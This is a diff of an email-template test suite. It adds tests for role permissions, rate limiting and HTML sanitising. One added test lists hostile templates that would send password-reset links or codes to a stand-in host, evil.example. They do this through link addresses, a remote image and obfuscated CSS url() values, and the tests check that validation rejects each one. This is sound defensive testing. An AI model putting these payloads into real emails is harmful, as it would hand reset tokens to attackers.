@@ -83,14 +83,64 @@ onEachBackend(({ open }) => {
       await app.deps.db.query(`DELETE FROM email WHERE slug = 'welcome'`)
       const html = '<a href="{{link}}">in</a>'
       const create = (values: object) =>
-        app.records(admin, 'POST', '/email', { body: { slug: 'welcome', subject: 'Hello', html, ...values } })
+        app.records(superAdmin, 'POST', '/email', { body: { slug: 'welcome', subject: 'Hello', html, ...values } })
       expect((await create({ html: '<p>{{code}} {{link}}</p>' })).body.validation.html).toContain('{{name}}, {{link}}')
       const { body } = await create({})
-      const update = (values: object) => app.records(admin, 'PUT', `/email/${body.model.id}`, { body: values })
+      const update = (values: object) => app.records(superAdmin, 'PUT', `/email/${body.model.id}`, { body: values })
       expect((await update({ html: '<p>Hello</p>' })).body.validation).toHaveProperty('html')
       expect((await update({ subject: 'Hello {{secret}}' })).body.validation).toHaveProperty('subject')
       expect((await update({ subject: 'Hello {{name}}' })).status).toBe(200)
       expect((await create({ slug: 'our-own', html: '<p>{{anything}}</p>' })).status).toBe(201)
+    })
+
+    it.each([
+      ['its link in a foreign address', '<a href="https://evil.example/?{{link}}">in</a>'],
+      ['its link behind another one', '<a href="{{link}}#{{link}}">in</a>'],
+      ['its link in a title', '<a href="{{link}}" title="{{link}}">in</a>'],
+      ['its code in an address', '<a href="{{link}}">in</a><a href="https://evil.example/?{{code}}">more</a>'],
+      ['when it is opened, by a picture', '<a href="{{link}}">in</a><img src="https://evil.example/x.png">'],
+      [
+        'when it is opened, by a style',
+        '<a href="{{link}}">in</a><p style="background: u&#82;L(https://evil.example)">x</p>',
+      ],
+      ['when it is opened, by an escaped style', '<a href="{{link}}">in</a><p style="background:\\75rl(//evil)">x</p>'],
+    ])('tells nobody %s', async (_, html) => {
+      await app.deps.db.query(`DELETE FROM email WHERE slug = 'reset-password'`)
+      const values = { slug: 'reset-password', subject: 'Edited', html }
+      const { status, body } = await app.records(superAdmin, 'POST', '/email', { body: values })
+      expect([status, Object.keys(body.validation)]).toEqual([400, ['html']])
+      // Written before this rule, or by other means.
+      await app.deps.db.query('INSERT INTO email (slug, subject, html) VALUES ($1, $2, $3)', Object.values(values))
+      const link = 'https://app.example/in?token=a'
+      await send({ to: 'leak@x.test', template: 'reset-password', values: { name: 'A', link, code: '1', minutes: 1 } })
+      expect((await app.mailsTo('leak@x.test'))[0]?.subject).toBe('Set a new password')
+      await app.deps.db.query(`DELETE FROM email WHERE slug = 'reset-password'`)
+    })
+
+    it('has the looks that its template gives it', async () => {
+      await app.deps.db.query(`DELETE FROM email WHERE slug = 'reset-password'`)
+      const html = '<p style="color: rgb(1, 2, 3)">{{link}} {{code}}</p><a href=" {{ link }} ">in</a>'
+      const values = { slug: 'reset-password', subject: 'Edited', html }
+      expect((await app.records(superAdmin, 'POST', '/email', { body: values })).status).toBe(201)
+      await app.deps.db.query(`DELETE FROM email WHERE slug = 'reset-password'`)
+    })
+
+    it('with a link or a code is written by super admins alone', async () => {
+      await app.deps.db.query(`DELETE FROM email`)
+      const linked = { slug: 'magic-login', subject: 'Hello', html: '<a href="{{link}}">in</a>' }
+      const refused = await app.records(admin, 'POST', '/email', { body: linked })
+      expect([refused.status, Object.keys(refused.body.validation)]).toEqual([403, ['slug']])
+      const { body } = await app.records(superAdmin, 'POST', '/email', { body: linked })
+      const path = `/email/${body.model.id}`
+      expect((await app.records(admin, 'PUT', path, { body: { subject: 'Mine' } })).status).toBe(403)
+      expect((await app.records(admin, 'DELETE', path)).status).toBe(403)
+      expect((await app.records(admin, 'GET', path)).status).toBe(200)
+      const plain = { slug: 'email-changed', subject: 'Hello', html: '<p>{{name}}</p>' }
+      const own = await app.records(admin, 'POST', '/email', { body: plain })
+      expect(own.status).toBe(201)
+      const renamed = await app.records(admin, 'PUT', `/email/${own.body.model.id}`, { body: { slug: 'magic-login' } })
+      expect([renamed.status, Object.keys(renamed.body.validation)]).toEqual([403, ['slug']])
+      await app.deps.db.query(`DELETE FROM email`)
     })
 
     it('is not sent by a transaction that is rolled back, nor by a savepoint that is', async () => {
@@ -150,6 +200,17 @@ onEachBackend(({ open }) => {
       expect((await specimen({ to: 'f@x.test', subject: 'Alone' })).body.validation).toHaveProperty('template')
       expect((await specimen({ to: 'f@x.test', template: 'nonsense' })).body.validation).toHaveProperty('template')
       expect((await specimen({ to: 'nobody', template: 'welcome' })).body.validation).toHaveProperty('to')
+    })
+
+    it('takes few specimens for one address, and as clean as a template', async () => {
+      const specimen = () =>
+        app.lambda(admin, 'POST', '/mailbox', {
+          body: { to: 'often@x.test', subject: 'Hello', html: '<script>1</script><p>Hello</p>' },
+        })
+      const statuses: number[] = []
+      for (let count = 0; count < 6; count++) statuses.push((await specimen()).status)
+      expect(statuses).toEqual([201, 201, 201, 201, 201, 429])
+      expect((await app.mailsTo('often@x.test'))[0]?.html).toBe('<p>Hello</p>')
     })
 
     it('sends no link to an address that only the Host header claims', async () => {
